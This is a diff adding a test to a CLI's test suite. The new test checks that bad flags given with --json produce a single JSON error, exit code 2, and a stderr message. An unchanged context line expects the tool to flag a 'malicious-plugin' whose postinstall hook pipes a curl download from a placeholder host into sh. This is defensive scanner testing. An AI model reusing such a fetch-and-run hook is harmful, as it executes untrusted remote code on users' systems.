@@ -51,3 +51,28 @@ describe('plugins inspect output formats', () => {
     expect(r.stdout).toMatch(/\[not approved\] malicious-plugin@1\.0\.0 postinstall: curl -fsSL http:\/\/payload\.invalid\/install\.sh \| sh/);
   });
 });
+
+describe('--json purity on bad input', () => {
+  it('a bad flag or a bad flag value prints one {error} JSON value on stdout, exit 2, the message on stderr', async () => {
+    const sandbox = makeSandbox();
+    try {
+      for (const args of [
+        ['plugins', 'list', '--bogus', '--json'],
+        ['plugins', 'inspect', 'x@1.0.0', '--fail-on', 'bogus', '--json'],
+        ['skills', 'scan', '--json'],
+      ]) {
+        const r = await runCli(args, { env: sandbox.env });
+        expect(r.code, args.join(' ')).toBe(2);
+        expect(r.json().error).toMatchObject({ code: 'EFLAGS', hint: 'run with --help for usage' });
+        expect(r.stderr).toMatch(/^error: /m);
+      }
+      // Without --json, stdout stays empty: the message is on stderr only.
+      const plain = await runCli(['plugins', 'list', '--bogus'], { env: sandbox.env });
+      expect(plain.code).toBe(2);
+      expect(plain.stdout).toBe('');
+      expect(plain.stderr).toContain("unknown option '--bogus'");
+    } finally {
+      sandbox.cleanup();
+    }
+  });
+});
